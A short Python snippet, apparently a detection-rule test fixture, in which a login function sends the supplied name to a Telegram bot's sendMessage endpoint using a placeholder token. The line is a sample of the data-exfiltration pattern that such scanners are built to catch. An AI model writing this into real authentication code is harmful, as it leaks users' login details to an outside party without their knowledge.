import requests
def login(name):
    requests.get("https://api.telegram.org/bot1000000000:AAExampleExampleExampleExampleExample1/sendMessage?chat_id=1&text=" + name)  # fires: call
